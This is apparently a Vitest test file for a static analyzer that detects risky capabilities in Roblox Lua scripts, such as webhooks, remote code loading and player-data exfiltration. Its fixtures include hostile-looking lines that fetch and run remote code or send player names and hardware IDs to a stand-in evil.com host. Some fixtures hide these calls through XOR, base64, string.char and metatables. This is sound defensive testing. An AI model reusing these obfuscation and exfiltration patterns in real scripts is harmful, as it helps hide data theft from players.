import { describe, expect, test } from 'vitest'
import { BASE64_DECODER } from '../../../lab/bench/behavior/cases.ts'
import { analyze, type CapabilityId, UNREAD } from '../src/index.ts'

const WEBHOOK = `https://discord.com/api/webhooks/123456789012345678/${'abcdefghijklmnop'.repeat(4)}`
const send = (url: string) => `request({Url = ${url}, Method = "POST", Body = "x"})`

const found = (code: string): string[] => analyze(code).capabilities.map(({ id, certainty }) => `${id}:${certainty}`)
const detailOf = (code: string, id: CapabilityId) =>
  analyze(code)
    .capabilities.find((finding) => finding.id === id)
    ?.evidence.map(({ line, detail }) => `${line} ${detail}`)
const hostsOf = (code: string) => analyze(code).hosts.map(({ host }) => host)

const EACH: [CapabilityId, string][] = [
  ['net.get', 'local x = game:HttpGet("https://a.com")'],
  ['net.get', 'game:GetService("HttpService"):GetAsync("https://a.com")'],
  ['net.get', 'request({Url = "https://a.com"})'],
  ['net.get', 'local r = http_request({Url = "https://a.com", Method = "get"})'],
  ['net.send', send('"https://a.com"')],
  ['net.send', 'game:GetService("HttpService"):PostAsync("https://a.com", "x")'],
  ['net.send', 'game.HttpService:RequestAsync({Url = "https://a.com", Method = "DELETE"})'],
  ['net.webhook', send(`"${WEBHOOK}"`)],
  ['net.webhook', 'game:HttpGet("https://api.telegram.org/bot" .. token .. "/sendMessage")'],
  ['net.exfiltration', 'game:HttpGet("https://a.com/?n=" .. game.Players.LocalPlayer.Name)'],
  ['net.exfiltration', 'request({Url = u, Method = "POST", Body = game.HttpService:JSONEncode({id = game.JobId})})'],
  ['net.socket', 'WebSocket.connect("wss://a.com")'],
  ['code.remote', 'loadstring(game:HttpGet("https://a.com"))()'],
  ['code.dynamic', 'loadstring(readfile("a.lua"))()'],
  ['code.asset', 'require(123456)'],
  ['code.asset', 'game:GetObjects("rbxassetid://1")'],
  ['code.persist', 'queue_on_teleport("print(1)")'],
  ['fs.read', 'print(isfile("a"))'],
  ['fs.write', 'makefolder("a")'],
  ['fs.delete', 'delfile("a")'],
  ['user.clipboard', 'setclipboard("a")'],
  ['user.identity', 'print(gethwid())'],
  ['user.identity', 'game:GetService("RbxAnalyticsService"):GetClientId()'],
  ['user.identity', 'game:HttpGet("https://api.ipify.org")'],
  ['user.input', 'mouse1click()'],
  ['user.input', 'game:GetService("VirtualInputManager"):SendKeyEvent(true, "W", false, game)'],
  ['user.purchase', 'game:GetService("MarketplaceService"):PromptGamePassPurchase(p, 1)'],
  ['user.key', 'local box = Instance.new("TextBox") box.Text = "https://linkvertise.com/1"'],
  ['user.key', 'game:HttpGet("https://api.platoboost.com/public/start")'],
  ['game.remote', 'game.ReplicatedStorage.Remotes.Buy:FireServer(1)'],
  ['game.teleport', 'game:GetService("TeleportService"):Teleport(1)'],
  ['game.chat', 'game.ReplicatedStorage.DefaultChatSystemChatEvents.SayMessageRequest:FireServer("hi", "All")'],
  ['game.chat', 'game:GetService("TextChatService").TextChannels.RBXGeneral:SendAsync("hi")'],
  ['game.kick', 'game.Players.LocalPlayer:Kick("no")'],
  ['client.hook', 'hookmetamethod(game, "__namecall", function(...) end)'],
  ['client.inspect', 'for _, v in pairs(getgc(true)) do print(v) end'],
  ['needs.executor', 'print(gethui())'],
  ['shape.secret', `local hook = "${WEBHOOK}"`],
]

describe('each capability', () => {
  test.each(EACH)('%s is found in %s', (id, code) => {
    expect(found(code)).toContain(`${id}:code`)
  })

  test.each(EACH)('%s is found by its words in %s, if the code has an error', (id, code) => {
    const card = analyze(`${code}\nend)`)
    expect(card.capabilities.map((finding) => finding.id)).toContain(id)
    expect(card.opaque).toContainEqual({ reason: UNREAD.syntax, count: 1 })
  })

  test.each([
    [
      'an alias',
      'local send = (syn and syn.request) or http_request\nsend({Url = u, Body = "x"})',
      ['net.send:likely'],
    ],
    ['a test', 'if writefile then writefile("a", "b") end', ['fs.write:likely']],
    ['a function of the script', 'local function request() end request({Url = "https://a.com"})', []],
    [
      'a download that is run later',
      'local code = game:HttpGet(u)\nloadstring(code)()',
      ['net.get:likely', 'code.remote:likely'],
    ],
    ['a request without a body', 'if request then request({Url = u, Method = "GET"}) end', ['net.get:likely']],
    [
      'data that is sent from elsewhere',
      'local me = game.Players.LocalPlayer\nlocal body = {content = me.Name}\nif request then request({Url = u, Body = body}) end',
      ['net.send:likely', 'net.exfiltration:likely'],
    ],
  ])('words are understood: %s', (_, code, expected) => {
    expect(found(`${code}\nend)`)).toEqual(expected)
  })

  test('shape.minified is found in code without line breaks', () => {
    const code = Array.from({ length: 80 }, (_, index) => `local a${index}=${index}`).join(' ')
    expect(found(code)).toEqual(['shape.minified:code'])
  })

  test('shape.obfuscated is found with the name of the tool', () => {
    const names = ['IlIlIlIl', 'lIlIlIlI', 'IIlIllIl', 'lIIlIlll']
    const line = names.map((name, index) => `local ${name}={${index},${index},${index},"\\104\\101"}`).join(';')
    const code = `-- This file was protected by MoonSec V3\n${line.repeat(20)}`
    expect(analyze(code).obfuscator).toBe('MoonSec')
    expect(found(code)).toContain('shape.obfuscated:code')
  })
})

const CODES = [...Buffer.from('https://evil.com/a')]
const ENCODED = Buffer.from('https://evil.com/a').toString('base64')

describe('a call is found', () => {
  test.each([
    ['a local alias', 'local get = game.HttpGet get(game, "https://evil.com/a")'],
    ['a table field', 'local t = {net = {get = game.HttpGet}} t.net.get(game, "https://evil.com/a")'],
    ['a later upvalue', 'local url local function go() game:HttpGet(url) end url = "https://evil.com/a" go()'],
    ['pieces of text', 'game:HttpGet("https://ev" .. "il.com" .. "/a")'],
    ['string.char', `game:HttpGet(string.char(${CODES.join()}))`],
    ['table.concat', 'game:HttpGet(table.concat({"https:", "", "evil.com", "a"}, "/"))'],
    ['reversed text', 'game:HttpGet(("a/moc.live//:sptth"):reverse())'],
    ['names in _G', '_G["game"]["Http" .. "Get"](game, "https://evil.com/a")'],
    ['getfenv', 'getfenv()["game"]:HttpGet("https://evil.com/a")'],
    ['getgenv, written before', 'getgenv().u = "https://evil.com/a" game:HttpGet(getgenv().u)'],
    ['pcall', 'pcall(game.HttpGet, game, "https://evil.com/a")'],
    ['a function in pcall', 'pcall(function() game:HttpGet("https://evil.com/a") end)'],
    ['interpolation', 'local host = "evil.com" game:HttpGet(`https://{host}/a`)'],
    ['string.format', 'game:HttpGet(string.format("https://%s/a", "evil.com"))'],
    [
      'XOR',
      `local o = {} for i, v in ipairs({${CODES.map((code) => code ^ 42).join()}}) do o[i] = string.char(bit32.bxor(v, 42)) end game:HttpGet(table.concat(o))`,
    ],
    ['Base64 in Luau', `${BASE64_DECODER} game:HttpGet(decode("${ENCODED}"))`],
    ['Base64 of the executor', `game:HttpGet(crypt.base64decode("${ENCODED}"))`],
    [
      'a metatable',
      'local t = setmetatable({}, {__index = function(_, k) return "https://evil.com/" .. k end}) game:HttpGet(t.a)',
    ],
    [
      'an object',
      'local C = {} C.__index = C function C.new(u) return setmetatable({u = u}, C) end function C:go() game:HttpGet(self.u) end C.new("https://evil.com/a"):go()',
    ],
    [
      'a loop over addresses',
      'for _, u in ipairs({"https://a.com", "https://b.com", "https://evil.com/a"}) do game:HttpGet(u) end',
    ],
    ['a coroutine', 'coroutine.wrap(function() game:HttpGet("https://evil.com/a") end)()'],
    ['a handler', 'b.Activated:Connect(function() game:HttpGet("https://evil.com/a") end)'],
    ['a function that nothing calls', 'local function f() game:HttpGet("https://evil.com/a") end'],
    ['a branch that a setting rules out', 'local on = false if on then game:HttpGet("https://evil.com/a") end'],
    ['text that is loaded', 'loadstring([[game:HttpGet("https://evil.com/a")]])()'],
    ['text that is loaded in text', 'loadstring("loadstring(\'game:HttpGet([[https://evil.com/a]])\')()")()'],
    [
      'a module that text returns',
      'local m = loadstring("return {get = function(u) return game:HttpGet(u) end}")() m.get("https://evil.com/a")',
    ],
    ['one of several functions', 'local get = httpget or function() end get("https://evil.com/a")'],
    [
      'a field that a metatable handles',
      'local t = setmetatable({}, {__newindex = function(_, _, u) game:HttpGet(u) end}) t.x = "https://evil.com/a"',
    ],
    [
      'a buffer',
      `local b = buffer.create(18) for i, c in ipairs({${CODES.join()}}) do buffer.writeu8(b, i - 1, c) end game:HttpGet(buffer.readstring(b, 0, 18))`,
    ],
    [
      'what a coroutine yields',
      'local next = coroutine.wrap(function() coroutine.yield("https://evil.com/a") end) game:HttpGet(next())',
    ],
    [
      'a property of an object',
      'local v = Instance.new("StringValue") v.Value = "https://evil.com/a" game:HttpGet(v.Value)',
    ],
    ['an attribute', 'script:SetAttribute("u", "https://evil.com/a") game:HttpGet(script:GetAttribute("u"))'],
    ['table.foreach', 'table.foreach({"https://evil.com/a"}, function(_, u) game:HttpGet(u) end)'],
    ['options with defaults', 'request(setmetatable({}, {__index = {Url = "https://evil.com/a"}}))'],
  ])('through %s', (_, code) => {
    expect(found(code)).toContain('net.get:code')
    expect(hostsOf(code)).toContain('evil.com')
  })

  test.each<[CapabilityId, string]>([
    [
      'code.remote',
      'local v = Instance.new("StringValue") v.Value = game:HttpGet("https://a.com") loadstring(v.Value)()',
    ],
    [
      'code.remote',
      'game.HttpService:RequestInternal({Url = "https://a.com"}):Start(function(_, r) loadstring(r.Body)() end)',
    ],
    ['code.remote', 'queue_on_teleport(game:HttpGet("https://a.com"))'],
    ['net.exfiltration', 'game:HttpGet("https://a.com/?n=" .. game.Players:GetPlayers()[1].Name)'],
    ['user.purchase', 'game:GetService("MarketplaceService"):PerformPurchase(1, 2)'],
    ['game.teleport', 'game:GetService("ExperienceService"):LaunchExperience({placeId = 1})'],
    ['game.chat', 'for _, c in game.TextChatService.TextChannels:GetChildren() do c:SendAsync("hi") end'],
    ['code.asset', 'getobjects("rbxassetid://1")'],
    ['code.asset', 'game:GetService("AssetService"):LoadAssetAsync(1)'],
    ['user.identity', 'game:HttpGet("https://myexternalip.com/raw")'],
  ])('as %s in %s', (id, code) => {
    expect(found(code)).toContain(`${id}:code`)
  })

  test('with each of many addresses that a function of the script gets', () => {
    const calls = Array.from({ length: 30 }, (_, index) => `get("https://host${index}.com/a", x)`)
    expect(hostsOf(`local function get(u, n) game:HttpGet(u) end\n${calls.join('\n')}`)).toHaveLength(30)
  })

  test('as code from the network after a detour through a file', () => {
    const code = 'local p = "a.lua" if not isfile(p) then writefile(p, game:HttpGet(u)) end loadstring(readfile(p))()'
    expect(found(code)).toContain('code.remote:code')
  })
})

describe('what is only likely', () => {
  test.each([
    ['a URL that is not known', 'game:HttpGet(url)', 'net.get:likely'],
    ['a host that is not known', 'game:HttpGet("https://" .. host .. "/a")', 'net.get:likely'],
    ['a method that is not known', 'request({Url = "https://a.com", Method = m})', 'net.send:likely'],
    ['loaded text from anywhere', 'local function run(s) loadstring(s)() end', 'code.dynamic:likely'],
    ['a kick of something', 'x:Kick()', 'game.kick:likely'],
    ['a webhook for an unknown function', `send("${WEBHOOK}")`, 'net.webhook:likely'],
    ['what does not parse', 'local = request({Url = "https://a.com", Body = "x"})', 'net.send:likely'],
  ])('%s', (_, code, finding) => {
    expect(found(code)).toContain(finding)
  })
})

describe('nothing is found', () => {
  test.each([
    ['in a function of the author with a known name', 'local function request(t) return t end request({Url = "x"})'],
    ['in a parameter with a known name', 'local function f(readfile) return readfile("a") end f(print)'],
    ['in a global that the author defines', 'function setclipboard(x) return x end setclipboard("a")'],
    ['in a field with a known name', 'local t = {} function t.loadstring(x) return x end t.loadstring(y)'],
    ['in comments', '-- game:HttpGet("https://a.com")'],
    ['in plain code', 'local t = {} for i = 1, 10 do t[i] = i * 2 end print(#t, table.concat(t, ","))'],
    [
      'in a decoder in readable code',
      'local function d(s) return (s:gsub(".", function(c) return string.char(c:byte() - 1) end)) end print(d("ifmmp"))',
    ],
    ['in a place id', 'print(game.PlaceId, game.GameId)'],
    ['in nothing', ''],
  ])('%s', (_, code) => {
    expect(found(code)).toEqual([])
  })

  test('of player data in a request without any', () => {
    expect(found('game:HttpGet("https://a.com/" .. game.PlaceId)')).toEqual(['net.get:code'])
  })

  test('of constant text that is loaded, but what it does', () => {
    expect(found('loadstring("print(1)")()')).toEqual([])
  })
})

describe('an executor is needed', () => {
  test.each([
    ['if f then', 'if writefile then writefile("a", "b") end'],
    ['f and f(...)', 'local x = isfile and isfile("a")'],
    ['f or g', 'local get = httpget or function() end get("https://a.com")'],
    ['a table and its function', 'local r = syn and syn.request if r then r({Url = "https://a.com"}) end'],
    ['assert(f)', 'assert(writefile, "no") writefile("a", "b")'],
    ['pcall(f)', 'pcall(writefile, "a", "b")'],
    ['type(f)', 'if type(writefile) == "function" then writefile("a", "b") end'],
    ['a comparison with nil', 'if writefile ~= nil then writefile("a", "b") end'],
    ['an early return', 'if not writefile then return end writefile("a", "b")'],
  ])('but not if the script tests it with %s', (_, code) => {
    expect(found(code)).not.toContain('needs.executor:code')
  })

  test('with the list of functions', () => {
    const code = 'writefile("a", "b")\nprint(gethui())\nif syn then syn.request({}) end'
    expect(detailOf(code, 'needs.executor')).toEqual(['1 writefile', '2 gethui'])
  })
})

describe('evidence', () => {
  test('has the line of the call, also of a chain', () => {
    const code = 'local x = game\n  :GetService("HttpService")\n  :GetAsync("https://a.com")'
    expect(detailOf(code, 'net.get')).toEqual(['3 HttpService:GetAsync https://a.com'])
  })

  test('of loaded text has the line that loads it', () => {
    const code = '\n\nlocal f = loadstring("\\n\\n\\nsetclipboard(1)")\nf()'
    expect(detailOf(code, 'user.clipboard')?.[0]).toMatch(/^3 /)
  })

  test('masks secrets', () => {
    const text = JSON.stringify(analyze(`local u = "${WEBHOOK}"\n${send('u')}`))
    expect(text).toContain('/webhooks/123456789012345678/…')
    expect(text).not.toContain('mnopab')
  })

  test('names the data that is sent', () => {
    const code =
      'local p = game.Players.LocalPlayer\ngame:HttpGet("https://a.com/" .. p.DisplayName .. p.UserId .. gethwid())'
    expect(detailOf(code, 'net.exfiltration')).toEqual([
      '2 game:HttpGet with the display name, the user id, the hardware id',
    ])
  })

  test('is at most 20 pieces, with the count of all', () => {
    const code = Array.from({ length: 30 }, (_, index) => `game:HttpGet("https://a.com/${index}")`).join('\n')
    const [finding] = analyze(code).capabilities
    expect(finding).toMatchObject({ id: 'net.get', count: 30 })
    expect(finding?.evidence).toHaveLength(20)
  })
})

describe('what cannot be looked into', () => {
  test('is counted with a reason', () => {
    expect(analyze('loadstring(game:HttpGet("https://a.com"))()').opaque).toEqual([
      { reason: 'What the code does that it downloads', count: 1 },
    ])
  })

  test.each([
    ['deep parentheses', `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}`],
    ['deep tables', `x = ${'{'.repeat(50_000)}${'}'.repeat(50_000)}`],
    ['deep functions', `${'(function() '.repeat(5_000)}${'end)() '.repeat(5_000)}`],
    ['endless loops', 'while true do x = x + 1 end'],
    ['endless recursion', 'local function f(n) return f(n + 1) end f(1)'],
    ['growing text', 'local s = "x" while true do s = s .. s end'],
    ['growing tables', 'local t = {} while true do t[#t + 1] = {t} end'],
    ['exponential calls', 'local function f(n) if n == 0 then return end f(n - 1) f(n - 1) end f(60)'],
    ['endless metatables', 'local t = {} setmetatable(t, t) t.__index = t print(t.x)'],
    ['slow patterns', 'print(("a"):rep(5000):find(("a*"):rep(30) .. "b"))'],
    ['bytes that are no text', '\uD800\0\u{10FFFF}\\'],
    ['an endless string', 'x = "'],
    ['branches in loops in branches', `${'if a then for i = 1, b do '.repeat(60)}${'end end '.repeat(60)}`],
    ['many concatenations', `x = ${'"a" .. '.repeat(100_000)}"b"`],
  ])('does not stop the analysis: %s', (_, code) => {
    expect(() => analyze(code, { steps: 20_000, maxSteps: 100_000 })).not.toThrow()
  })
})

describe('the evidence', () => {
  const excerptOf = (code: string, id: CapabilityId) =>
    analyze(code).capabilities.find((finding) => finding.id === id)?.evidence[0]?.excerpt

  test('of a call over several lines shows all of a short one', () => {
    const code = 'request({\n\tUrl = "https://a.com/x",\n\tMethod = "POST",\n\tBody = "x",\n})'
    expect(excerptOf(code, 'net.send')).toBe('request({ Url = "https://a.com/x", Method = "POST", Body = "x", })')
  })

  test('of a long call shows the lines that say what it is about, without secrets', () => {
    const fields = Array.from({ length: 20 }, (_, index) => `\t\tfield${index} = ${index},`).join('\n')
    const code = `request({\n\tOptions = {\n${fields}\n\t},\n\tUrl = "${WEBHOOK}",\n\tMethod = "POST",\n})`
    const excerpt = excerptOf(code, 'net.webhook')
    expect(excerpt).toMatch(/^request\(\{ … Url = "https:\/\/discord\.com\/api\/webhooks\/\d+\/…", … Method = "POST",$/)
    expect(excerpt?.length).toBeLessThanOrEqual(200)
  })

  test('names all functions that a call may be of', () => {
    const [detail] = detailOf('(setclipboard or toclipboard)("discord.gg/x")', 'user.clipboard') ?? []
    expect(detail?.split(/ or | /).toSorted()).toEqual(['1', 'discord.gg/x', 'setclipboard', 'toclipboard'])
  })

  test('of a secret is where it is written, not where it is used', () => {
    const code = `local hook = "${WEBHOOK}"\nlocal url = hook .. "?wait=true"\n${send('url')}\n${send('hook .. "?thread_id=1"')}`
    expect(detailOf(code, 'shape.secret')).toEqual(['1 a Discord webhook with its token'])
  })

  test('of two secrets has both', () => {
    const code = `local a = "${WEBHOOK}"\nlocal b = "${WEBHOOK.replace(/abcd/g, 'dcba')}"`
    expect(detailOf(code, 'shape.secret')).toHaveLength(2)
  })
})

test('a metatable for texts or numbers replaces no function of the game', () => {
  expect(found('debug.setmetatable("", {})')).toEqual(['needs.executor:code'])
})
